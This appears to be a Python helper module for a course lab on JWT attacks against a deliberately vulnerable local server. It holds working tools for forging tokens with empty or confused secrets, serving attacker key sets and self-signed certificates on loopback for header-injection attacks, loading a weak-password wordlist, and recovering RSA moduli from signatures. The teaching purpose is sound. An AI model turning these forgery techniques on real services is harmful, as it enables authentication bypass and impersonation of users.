"""Tools for lesson 06's attacks: build tokens by hand, host a JWK Set on loopback, read the server's flaws.

    forged = hs256_by_hand({"alg": "HS256", "typ": "at+jwt", "kid": kid}, claims, b"")   # any secret, even b""
    with serve_jwks({"keys": [my_jwk]}) as url: ...                                    # http://127.0.0.1:<port>/...
    show_flaw("alg-none")                                       # the marked lines of the lab server, from its source
    n = recover_rsa_modulus([token1, token2], e=3)              # the RSA key behind two RS256 tokens
    with serve_text(certificate_pem(cert), "/cert.pem") as url: ...   # an x5u URL on loopback

Everything here talks to this machine only.
"""

from __future__ import annotations

import ast
import base64
import contextlib
import hashlib
import hmac
import inspect
import json
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import labserver

__all__ = ["b64url", "b64url_json", "hs256_by_hand", "serve_jwks", "serve_text", "show_flaw", "show_source",
           "wordlist", "recover_rsa_modulus", "pkcs1_sha256", "self_signed_certificate", "x5c_of",
           "certificate_pem", "FLAW_MODULES"]

# Where the lab server's flaws live, in reading order.
FLAW_MODULES = ("labserver.tokens.access", "labserver.tokens.keys", "labserver.tokens.keysources",
                "labserver.tokens.certificates", "labserver.web.routes.oauth",
                "labserver.oauth.clients", "labserver.oauth.pkce", "labserver.oauth.codes")
_MARKER = re.compile(r'# DELIBERATELY VULNERABLE \(lab flaw "([a-z0-9-]+)"\):')


def b64url(data: bytes) -> str:
    """base64url without padding (RFC 7515 §2), as text."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_json(value) -> str:
    """A JSON value as a token segment: compact JSON, then base64url."""
    return b64url(json.dumps(value, separators=(",", ":")).encode())


def hs256_by_hand(header: dict, claims: dict, secret: bytes) -> str:
    """TEACHING STEP: an HS256 token assembled with hmac, for secrets PyJWT rightly refuses (empty, a PEM key)."""
    signing_input = b64url_json(header) + "." + b64url_json(claims)
    signature = hmac.new(secret, signing_input.encode("ascii"), hashlib.sha256).digest()
    return signing_input + "." + b64url(signature)


def wordlist() -> list[str]:
    """The course's wordlist of common passwords (source and licence: labserver/data/README.md)."""
    return (Path(labserver.__file__).parent / "data" / "weak-secrets.txt").read_text().split("\n")[:-1]


def serve_jwks(key_set: dict, path: str = "/jwks.json"):
    """Serve a JWK Set on 127.0.0.1 (a free port) while the ``with`` block runs; yield its URL."""
    return serve_text(json.dumps(key_set), path, "application/json")


@contextlib.contextmanager
def serve_text(text: str, path: str, content_type: str = "application/x-pem-file"):
    """Serve one text (a certificate, a JWK Set) on 127.0.0.1 (a free port) while the ``with`` block runs."""
    body = text.encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the http.server API
            found = self.path == path
            self.send_response(200 if found else 404)
            self.send_header("Content-Type", content_type if found else "application/json")
            self.end_headers()
            self.wfile.write(body if found else b"{}")

        def log_message(self, *args):  # keep requests out of the notebook's output
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    # Polled every 50 ms for the end of the block, not every 500 ms (the default): the block ends sooner.
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}{path}"
    finally:
        server.shutdown()
        server.server_close()


def flaw_blocks(name: str) -> list[tuple[str, str, list[str]]]:
    """The lab server's code marked for flaw ``name``: (file, function, lines) for each marked place.

    A marked place is the marker comment, the comments under it and the one statement they describe.
    """
    import importlib

    blocks = []
    for module_name in FLAW_MODULES:
        source = inspect.getsource(importlib.import_module(module_name))
        lines = source.split("\n")
        tree = ast.parse(source)
        statements = [node for node in ast.walk(tree) if isinstance(node, ast.stmt)]
        functions = [node for node in statements if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef))]
        for index, line in enumerate(lines):
            match = _MARKER.search(line)
            if not match or match[1] != name:
                continue
            marker = index + 1  # ast counts lines from 1
            after = [node for node in statements if node.lineno > marker]
            first = min(node.lineno for node in after)
            end = max(node.end_lineno for node in after if node.lineno == first)
            inside = [f for f in functions if f.lineno < marker <= f.end_lineno]
            function = max(inside, key=lambda f: f.lineno).name if inside else "module level"
            indent = len(line) - len(line.lstrip())
            blocks.append((module_name.replace(".", "/") + ".py", function,
                           [text[indent:] for text in lines[index:end]]))
    return blocks


def show_flaw(name: str) -> None:
    """Print where the lab server has flaw ``name``, read from its source: the flaw, and the fix beside it."""
    blocks = flaw_blocks(name)
    if not blocks:
        raise ValueError(f"no lab flaw named {name!r}")
    for file, function, lines in blocks:
        print(f"{file}, in {function}():")
        print("    " + "\n    ".join(lines))


def show_source(obj) -> None:
    """Print the source of a function or class, as it is in the file."""
    print(inspect.getsource(obj).rstrip("\n"))


# --- key recovery: the RSA public key behind two signatures (algorithm confusion with no published key) -----

# DER of the DigestInfo that PKCS#1 v1.5 puts before a SHA-256 digest (RFC 8017 §9.2, note 1).
_SHA256_DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")


def pkcs1_sha256(signing_input: bytes, size: int) -> int:
    """TEACHING STEP: the number m an RS256 signature s satisfies, s^e = m (mod n): 00 01 FF..FF 00 DigestInfo hash."""
    tail = _SHA256_DIGEST_INFO + hashlib.sha256(signing_input).digest()
    return int.from_bytes(b"\x00\x01" + b"\xff" * (size - len(tail) - 3) + b"\x00" + tail, "big")


def recover_rsa_modulus(tokens: list[str], e: int = 65537, *, progress=print) -> int:
    """TEACHING STEP: n from two or more RS256 tokens of one key: the gcd of s^e - m, small factors removed.

    s^e - m is a multiple of n for every token, so n divides their gcd; what else divides it is small.
    ``progress`` is told each step (print by default). With e = 65537 each s^e has 65537 x 2048 bits and the
    gcd takes tens of seconds even with gmpy2 (used when installed); with e = 3 it takes milliseconds.
    """
    try:
        from gmpy2 import gcd, mpz
    except ImportError:
        from math import gcd
        mpz = int
    if len(tokens) < 2:
        raise ValueError("two tokens signed with the same key are needed")
    multiples = []
    for number, token in enumerate(tokens, 1):
        signing_input, _, signature = token.rpartition(".")
        raw = base64.urlsafe_b64decode(signature + "=" * (-len(signature) % 4))
        s, m = mpz(int.from_bytes(raw, "big")), mpz(pkcs1_sha256(signing_input.encode(), len(raw)))
        multiples.append(s ** e - m)
        progress(f"token {number}: s^e - m computed, a multiple of n ({len(raw) * 8}-bit signature, e = {e})")
    n = multiples[0]
    for multiple in multiples[1:]:
        n = gcd(n, multiple)
    progress(f"gcd of the {len(multiples)} multiples taken")
    bits = len(raw) * 8
    for p in _small_primes(1 << 16):
        while n % p == 0 and int(n).bit_length() > bits:
            n //= p
    n = int(n)
    progress(f"small factors removed: n has {n.bit_length()} bits" + ("" if n.bit_length() == bits else
             ", not the signature's size: the tokens share no key, or e is not " + str(e)))
    return n


def _small_primes(limit: int) -> list[int]:
    sieve = bytearray([1]) * limit
    sieve[:2] = b"\x00\x00"
    for i in range(2, int(limit ** 0.5) + 1):
        if sieve[i]:
            sieve[i * i::i] = bytearray(len(sieve[i * i::i]))
    return [i for i in range(limit) if sieve[i]]


# --- certificates for x5c and x5u ----------------------------------------------------------------------------

def self_signed_certificate(key, name: str = "attacker"):
    """A certificate for ``key`` signed by ``key`` itself: chains to nothing, which is the point."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes
    from cryptography.x509.oid import NameOID

    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    start = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
    return (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
            .serial_number(1).not_valid_before(start).not_valid_after(start + datetime.timedelta(days=3650))
            .sign(key, hashes.SHA256()))


def x5c_of(certificate) -> list[str]:
    """The x5c header value for one certificate: standard base64 of its DER (RFC 7515 §4.1.6), not base64url."""
    from cryptography.hazmat.primitives import serialization

    return [base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode("ascii")]


def certificate_pem(certificate) -> str:
    """A certificate as PEM text, what an x5u URL serves (RFC 7515 §4.1.5)."""
    from cryptography.hazmat.primitives import serialization

    return certificate.public_bytes(serialization.Encoding.PEM).decode("ascii")
